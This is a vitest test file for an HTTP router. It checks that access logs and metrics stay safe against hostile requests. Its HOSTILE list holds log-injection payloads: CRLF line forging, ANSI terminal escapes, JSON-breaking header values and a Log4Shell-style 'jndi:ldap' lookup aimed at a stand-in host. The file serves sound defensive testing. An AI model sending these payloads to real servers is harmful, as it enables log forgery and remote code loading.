// What a client sends ends up in logs and metrics: it may not begin a line of its own, drive the terminal of whoever
// reads it, break the JSON, or invent series without end.

import { expect, test } from 'vitest';
import { RawClient } from '../support/raw-client.ts';
import { RecordingOrigin } from '../support/recording-origin.ts';
import { simpleInstall, startRouter } from '../support/router.ts';

/** Requests with something in each place that a log shows. */
const HOSTILE = [
  'GET /a%0d%0aforged?b=%1b[31m HTTP/1.1\r\nHost: a\r\nUser-Agent: x\t"quote\\\xff\x85\xe2\x80\xa8\r\nReferer: "},{"forged":1\r\n\r\n',
  'GET /\x1b[2J HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET /\x07\n127.0.0.1 - - forged HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\x1b[31m\r\n\r\n',
  'GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: \x1b]0;title\x07\r\n\r\n',
  'FORGED"METHOD / HTTP/1.1\r\nHost: a\r\n\r\n',
  'QUERYX / HTTP/1.1\r\nHost: a\r\nX-Request-Id: ${jndi:ldap://evil}\r\n\r\n',
  '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\r\n\r\n',
];

async function logOf(accessLog: string): Promise<string> {
  await using origin = await RecordingOrigin.start();
  await using router = await startRouter({ install: simpleInstall(origin.port, `accessLog: ${accessLog}`) });
  for (const request of HOSTILE) await RawClient.exchange(router.ports['web']!, request);
  router.signal('SIGTERM');
  expect(await router.exited).toBe(0);
  return router.stdout();
}

test('78 the common log has one printable ASCII line for each hostile request', async () => {
  const log = await logOf('{ format: common }');
  expect(log).toMatch(/^[\x20-\x7e\n]*$/);
  const lines = log.trimEnd().split('\n');
  expect(lines).toHaveLength(HOSTILE.length);
  for (const line of lines) {
    expect(line).toMatch(
      /^127\.0\.0\.1 - \S+ \[[^\]]+\] "(?:[^"\\]|\\.)*" \d{3} \d+ "(?:[^"\\]|\\.)*" "(?:[^"\\]|\\.)*" \d+ "[^"]*" "[^"]*" \d+ms$/,
    );
  }
});

test('78 the JSON log has one object for each hostile request, with the values as they were', async () => {
  const log = await logOf('{ format: json, fields: { headers: { defaultMode: keep } } }');
  expect(log).toMatch(/^[\x20-\x7e\n]*$/);
  const records = log
    .trimEnd()
    .split('\n')
    .map((line): unknown => JSON.parse(line));
  expect(records).toHaveLength(HOSTILE.length);
  expect(records[0]).toMatchObject({
    'request_User-Agent': 'x\t"quote\\\xff\x85\xe2\x80\xa8',
    request_Referer: '"},{"forged":1',
  });
  for (const record of records) expect(record).not.toHaveProperty('forged');
});

test('78 hosts, paths and methods that clients invent make no series', async () => {
  await using origin = await RecordingOrigin.start();
  await using router = await startRouter({ install: simpleInstall(origin.port) });
  const port = router.ports['web']!;
  /** Workers publish a new series by message: asks until the text is there. */
  const scrape = async (expected: RegExp): Promise<string> => {
    const request = 'GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n';
    for (;;) {
      const { body } = await RawClient.exchange(router.ports['traefik']!, request);
      if (expected.test(body)) return body;
    }
  };
  const series = (text: string): string[] =>
    text
      .split('\n')
      .filter((line) => line !== '' && !line.startsWith('#'))
      .map((line) => line.replace(/ \S+$/, ''))
      .toSorted();
  const ask = (index: number): Promise<unknown> =>
    RawClient.exchange(port, `INVENTED-${index} /invented-${index} HTTP/1.1\r\nHost: invented-${index}.test\r\n\r\n`);
  await ask(0);
  const before = series(await scrape(/service_requests_total\{[^\n]*EXTENSION_METHOD[^\n]* 1\n/));
  for (let index = 1; index < 50; index++) await ask(index);
  const text = await scrape(/service_requests_total\{[^\n]*EXTENSION_METHOD[^\n]* 50\n/);
  expect(series(text)).toEqual(before);
  expect(text).not.toMatch(/invented/i);
});
